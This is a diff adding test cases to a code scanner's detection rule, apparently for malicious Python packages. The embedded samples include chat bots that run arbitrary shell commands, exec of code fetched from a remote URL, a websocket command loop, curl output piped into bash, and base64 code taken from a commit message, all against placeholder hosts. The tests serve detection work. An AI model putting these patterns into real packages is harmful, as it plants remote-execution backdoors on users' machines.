@@ -142,3 +142,95 @@ def go():
     subprocess.run(["powershell", "-Command", command])
 """
     assert scan(RULE, text) == []
+
+
+def test_a_program_from_a_commit_message(scan):
+    text = r"""import base64, subprocess
+from dulwich.porcelain import clone
+repo = clone("https://code.example.test/a.git", "a")
+message = repo[repo.head()].message.decode()
+subprocess.Popen(["python", "-c", base64.b64decode(message).decode()])
+"""
+    assert scan(RULE, text, "setup.py") == [(5, "HIGH", "HIGH", "install")]
+
+
+_BOT = r"""import subprocess, threading
+import telebot
+bot = telebot.TeleBot(TOKEN)
+@bot.message_handler(func=lambda m: True)
+def handler(m):
+    out = subprocess.check_output(m.text, shell=True, text=True)
+    bot.reply_to(m, out)
+"""
+
+
+def test_a_bot_that_listens_unasked(scan):
+    text = _BOT + "threading.Thread(target=bot.infinity_polling, daemon=True).start()\n"
+    assert scan(RULE, text, "package/__init__.py") == [(6, "HIGH", "HIGH", "run")]
+
+
+def test_a_bot_whose_token_is_written_down(scan):
+    assert scan(RULE, _BOT.replace("TOKEN", '"000000000:AA' + "x" * 33 + '"')) == [(6, "HIGH", "HIGH", "run")]
+
+
+def test_a_bot_that_its_user_starts(scan):
+    assert scan(RULE, _BOT) == [(6, "HIGH", "MEDIUM", "run")]
+
+
+def test_the_words_behind_a_command(scan):
+    text = r"""import os
+from discord.ext import commands
+bot = commands.Bot("!")
+@bot.command()
+async def shell(ctx, *, line):
+    await ctx.send(os.popen(line).read())
+bot.run(os.environ["TOKEN"])
+"""
+    assert scan(RULE, text) == [(6, "HIGH", "MEDIUM", "run")]
+
+
+def test_near_miss_a_bot_that_runs_a_fixed_command(scan):
+    text = _BOT.replace("m.text, shell=True", '["uptime"]')
+    assert scan(RULE, text) == []
+
+
+def test_a_helper_of_another_file_fetches(scan):
+    text = r"""from . import transport
+exec(transport.load("https://files.example.test/a.py").decode())
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]
+
+
+def test_near_miss_a_helper_of_another_file_is_given_a_name(scan):
+    text = r"""from . import templates
+HOME = "https://docs.example.test/"
+exec(templates.load("start").decode())
+"""
+    assert scan(RULE, text, "package/__init__.py") == []
+
+
+def test_a_websocket_that_is_walked_over(scan):
+    text = r"""import asyncio, subprocess, websockets
+async def listen():
+    async with websockets.connect("wss://c.example.test") as server:
+        async for line in server:
+            await server.send(subprocess.getoutput(line))
+asyncio.run(listen())
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(5, "HIGH", "HIGH", "import")]
+
+
+def test_one_process_feeds_another(scan):
+    text = r"""import subprocess
+got = subprocess.Popen(["curl", "-s", "https://files.example.test/x"], stdout=subprocess.PIPE)
+subprocess.Popen(["bash"], stdin=got.stdout)
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(3, "HIGH", "HIGH", "import")]
+
+
+def test_near_miss_a_child_is_told_where_to_connect(scan):
+    text = r"""import socket, subprocess, sys
+peer = socket.socket().recv(100)
+subprocess.Popen([sys.executable, "-c", "import package; package.work('%s')" % peer])
+"""
+    assert scan(RULE, text) == []
